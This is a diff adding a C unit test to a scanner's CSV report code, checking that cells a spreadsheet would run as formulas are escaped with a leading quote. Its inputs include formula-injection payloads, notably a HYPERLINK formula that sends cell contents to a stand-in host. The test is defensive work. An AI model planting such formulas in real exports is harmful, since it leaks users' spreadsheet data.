@@ -151,6 +151,38 @@ START_TEST(test_csv)
 }
 END_TEST
 
+/*
+ * Cells a spreadsheet would run as formulas (= + - @, tab, CR first) are quoted
+ * with a ' in front; other text and the numbers are as they were.  The service is
+ * what a hostile SIP server could put in its User-Agent.
+ */
+START_TEST(test_csv_formulas)
+{
+	struct pp_result *r = fx_scan();
+	struct pp_host_result *h = &r->hosts[0];
+	struct pp_port_result *p = pp_host_find_port(h, PP_PROTO_UDP, 53);
+	char *s;
+
+	h->name = strdup("-2+3");
+	h->role = strdup("a=b");
+	p->service = strdup("=HYPERLINK(\"http://x.test/?\"&A1,\"update\")");
+	p->rtt_us = 1234;
+	p->ref = strdup("\t=1+1");
+	p->detail = strdup("\r@SUM(A1)");
+	free(p->probe);
+	p->probe = strdup("+sip");
+	s = fx_render("csv", r, NULL);
+	ck_assert_ptr_nonnull(strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,udp,53,open,udp-response,"
+	                                "1234,0,\"'+sip\",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,"
+	                                "\"\"update\"\")\",,,,\"'\t=1+1\",\"'\r@SUM(A1)\"\n"));
+	/* Numbers and the text of an ordinary row are untouched. */
+	ck_assert_ptr_nonnull(
+	        strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,tcp,22,open,syn-ack,222,64,,,,,,,\n"));
+	free(s);
+	pp_result_free(r);
+}
+END_TEST
+
 START_TEST(test_junit)
 {
 	struct pp_result *r = fx_audit();
@@ -318,6 +350,7 @@ report_suite(void)
 	tcase_add_test(tc, test_text_scan);
 	tcase_add_test(tc, test_json);
 	tcase_add_test(tc, test_csv);
+	tcase_add_test(tc, test_csv_formulas);
 	tcase_add_test(tc, test_junit);
 	tcase_add_test(tc, test_xml);
 	tcase_add_test(tc, test_save_atomic);
